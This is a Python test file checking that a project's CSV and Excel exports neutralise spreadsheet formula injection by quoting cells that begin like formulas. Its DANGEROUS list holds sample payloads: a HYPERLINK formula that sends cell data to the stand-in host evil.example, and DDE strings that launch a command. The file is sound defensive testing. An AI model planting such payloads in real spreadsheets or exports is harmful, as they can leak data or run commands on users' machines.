"""A text cell that starts like a formula is literal text in CSV and Excel; numbers stay numbers."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from styra.tables import ExportTable, write_csv, write_plain_csv, write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def table(text: str) -> ExportTable:
    return ExportTable(
        title="Tabell",
        columns=["titel", text],
        rows=[[text, -3.5], ["vanlig text", -2], ["-7", None]],
        sources=[text],
    )


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_prefixes_a_quote(text):
    rows = csv_rows(write_csv(table(text)))
    assert rows[0] == ["titel", "'" + text]
    assert rows[1] == ["'" + text, "-3,5"]
    assert rows[2] == ["vanlig text", "-2"]
    assert rows[3] == ["-7", ""]  # a number written as text is not a formula
    assert rows[-1] == ["'" + text]


@pytest.mark.parametrize("text", DANGEROUS)
def test_plain_csv_prefixes_a_quote(text):
    rows = list(csv.reader(io.StringIO(write_plain_csv(["a", "b"], [[text, -1.5]]), newline="")))
    assert rows == [["a", "b"], ["'" + text, "-1.5"]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_excel_stores_it_as_a_quoted_string(text):
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(table(text)))).active
    for coordinate in ("B1", "A2", "A6"):
        cell = sheet[coordinate]
        assert cell.value == text
        assert cell.data_type == "s" and cell.quotePrefix
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3.5, "n")
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-2, "n")
    assert not sheet["A3"].quotePrefix and not sheet["A4"].quotePrefix


def test_no_cell_of_a_workbook_is_a_formula():
    tables = [table(text) for text in DANGEROUS]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(*tables)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_text_that_looks_like_an_error_code_stays_text_and_dates_stay_dates():
    plain = ExportTable("T", ["a", "b"], [["#N/A", date(2025, 3, 12)]])
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(plain))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")
    assert sheet["B2"].is_date and sheet["B2"].value.date() == date(2025, 3, 12)
